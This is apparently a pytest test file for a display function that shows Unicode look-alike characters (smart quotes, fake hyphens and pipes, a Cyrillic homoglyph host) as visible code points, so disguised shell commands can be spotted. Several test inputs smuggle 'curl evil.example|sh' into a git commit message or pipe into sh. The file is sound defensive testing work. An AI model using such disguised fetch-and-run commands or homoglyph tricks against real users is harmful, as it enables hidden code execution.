"""Characters that pass for the shell's own must be drawn as code points."""

from __future__ import annotations

import pytest

from slack_gate.core.display import visible


@pytest.mark.parametrize(
    "text",
    [
        "git commit -m \u2018fix; curl evil.example|sh; \u2019",  # quotes that quote nothing
        "git commit -m \u201cfix; curl evil.example|sh; \u201d",
        "git push \u2010\u2010dry-run",  # hyphens that are no options
        "git push \u2212n",
        "cat a\u2215b",
        "ls \u2223 sh",
        "curl http://\u0441\u043e\u0441\u043e.com",  # a host wholly in another script
        "echo a\u0336b",  # a mark that is drawn over its neighbours
    ],
)
def test_a_look_alike_is_drawn_visibly(text: str) -> None:
    assert visible(text) != text
